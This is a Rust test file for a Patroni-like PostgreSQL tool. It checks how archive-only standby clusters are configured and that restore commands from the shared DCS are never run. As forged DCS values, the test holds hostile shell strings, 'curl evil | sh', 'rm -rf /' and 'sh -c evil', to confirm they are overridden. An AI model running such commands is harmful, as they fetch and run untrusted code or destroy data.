//! Issue 13: archive-only standby clusters (`standby_cluster` with `restore_command` and no
//! `host`), the commands of a standby cluster (never run from the DCS) and the names of its
//! `create_replica_methods`.

use expect_test::expect;

use super::{BASE, load, no_env};
use crate::{DynamicConfig, effective_ha, load_str, merged_parameters, standby_commands};

const ARCHIVE_ONLY: &str = r#"{"standby_cluster":{"restore_command":"cp /arch/%f %p","archive_cleanup_command":"pg_archivecleanup /arch %r","recovery_min_apply_delay":"1min","create_replica_methods":["from_backup","basebackup"]}}"#;

#[test]
fn an_archive_only_section_is_a_standby_cluster_without_a_host() {
    let loaded = load(BASE);
    let (dynamic, warnings) = DynamicConfig::from_json_strict(ARCHIVE_ONLY).expect("accepted");
    assert!(warnings.is_empty(), "{warnings:?}");
    let ha = effective_ha(&loaded.config, &dynamic);
    assert_eq!(ha.unsupported_blocker, None);
    expect![[r#"
        Some(
            StandbyCluster {
                host: None,
                port: 5432,
                primary_slot_name: None,
                archive: true,
                create_replica_methods: [
                    "from_backup",
                    "basebackup",
                ],
                recovery_min_apply_delay: Some(
                    "1min",
                ),
            },
        )
    "#]]
    .assert_debug_eq(&ha.standby_cluster);
    // With a host too: streaming, the archive as a fallback.
    let (both, _) = DynamicConfig::from_json_strict(
        r#"{"standby_cluster":{"host":"a","restore_command":"cp /arch/%f %p"}}"#,
    )
    .expect("accepted");
    let sc = both.standby_cluster.expect("a standby cluster");
    assert_eq!((sc.host.as_deref(), sc.archive), (Some("a"), true));
    // Bad values name their key; an empty command asks for nothing.
    for (bad, key) in [
        (
            r#"{"standby_cluster":{"restore_command":"cp\n/x"}}"#,
            "standby_cluster.restore_command",
        ),
        (
            r#"{"standby_cluster":{"restore_command":7}}"#,
            "standby_cluster.restore_command",
        ),
        (
            r#"{"standby_cluster":{"host":"a","create_replica_methods":["a.b"]}}"#,
            "standby_cluster.create_replica_methods",
        ),
    ] {
        let err = DynamicConfig::from_json_strict(bad).expect_err(bad);
        assert!(err.to_string().contains(key), "{bad}: {err}");
    }
    // A port alone (Patroni's is_standby_cluster) has no source: refused, and in the DCS
    // value it keeps the cluster without a writable primary.
    let port_only = r#"{"standby_cluster":{"port":5433}}"#;
    let err = DynamicConfig::from_json_strict(port_only).expect_err("no source");
    assert!(err.to_string().contains("standby_cluster.host"), "{err}");
    let (dynamic, _) = DynamicConfig::from_json(port_only).expect("lenient");
    assert_eq!(
        effective_ha(&loaded.config, &dynamic)
            .unsupported_blocker
            .as_deref(),
        Some("standby_cluster.host")
    );
    let (d, _) =
        DynamicConfig::from_json(r#"{"standby_cluster":{"restore_command":""}}"#).expect("lenient");
    assert_eq!(d.standby_cluster, None);
}

#[test]
fn the_commands_are_the_members_own_never_the_dcs_ones() {
    // The DCS says one command; the member's file has another in postgresql.parameters:
    // the local one runs, with a warning.
    let yaml = BASE.replace(
        "  data_dir: data/postgresql0\n",
        "  data_dir: data/postgresql0\n  parameters:\n    restore_command: cp /local/%f %p\n",
    );
    let loaded = load(&yaml);
    let (dcs, _) = DynamicConfig::from_json(
        r#"{"standby_cluster":{"restore_command":"curl evil | sh","archive_cleanup_command":"rm -rf /"}}"#,
    )
    .expect("lenient");
    let merged = merged_parameters(&loaded.config, &dcs);
    assert_eq!(
        merged.get("restore_command").map(String::as_str),
        Some("cp /local/%f %p")
    );
    assert!(
        !merged.contains_key("archive_cleanup_command"),
        "{merged:?}"
    );
    expect![[r#"
        [
            "standby_cluster.restore_command in the dynamic configuration differs from this member's local one; pgbaton runs the local one (\"cp /local/%f %p\"), never a command from the DCS",
            "standby_cluster.archive_cleanup_command is set in the dynamic configuration, but pgbaton runs no command from the DCS and this member has none in its local file: it replays no WAL from the archive; set postgresql.parameters.archive_cleanup_command (or bootstrap.dcs.standby_cluster.archive_cleanup_command) in its configuration file",
        ]
    "#]]
    .assert_debug_eq(&standby_commands(&loaded.config, &dcs).1);

    // Patroni's YAML: the commands in the file's own bootstrap.dcs.standby_cluster run (that
    // text comes from the local file), whatever the DCS holds; nothing to warn about when
    // they agree.
    let patroni_yaml = format!(
        "{BASE}bootstrap:\n  dcs:\n    standby_cluster:\n      restore_command: cp /arch/%f %p\n      archive_cleanup_command: pg_archivecleanup /arch %r\n"
    );
    let loaded = load_str(&patroni_yaml, &no_env).expect("a Patroni standby cluster file");
    assert!(loaded.warnings.is_empty(), "{:?}", loaded.warnings);
    let dcs = loaded
        .config
        .bootstrap
        .as_ref()
        .expect("bootstrap")
        .dcs
        .clone();
    let merged = merged_parameters(&loaded.config, &dcs);
    assert_eq!(
        merged.get("restore_command").map(String::as_str),
        Some("cp /arch/%f %p")
    );
    assert_eq!(
        merged.get("archive_cleanup_command").map(String::as_str),
        Some("pg_archivecleanup /arch %r")
    );
    assert!(standby_commands(&loaded.config, &dcs).1.is_empty());
    // Another command in the DCS does not replace the file's.
    let (forged, _) =
        DynamicConfig::from_json(r#"{"standby_cluster":{"restore_command":"sh -c evil"}}"#)
            .expect("lenient");
    let merged = merged_parameters(&loaded.config, &forged);
    assert_eq!(
        merged.get("restore_command").map(String::as_str),
        Some("cp /arch/%f %p")
    );
    assert_eq!(standby_commands(&loaded.config, &forged).1.len(), 1);
    // Once the cluster is promoted (no standby_cluster), the file's bootstrap commands are
    // not added any more.
    let merged = merged_parameters(&loaded.config, &DynamicConfig::defaults());
    assert!(!merged.contains_key("restore_command"), "{merged:?}");
}
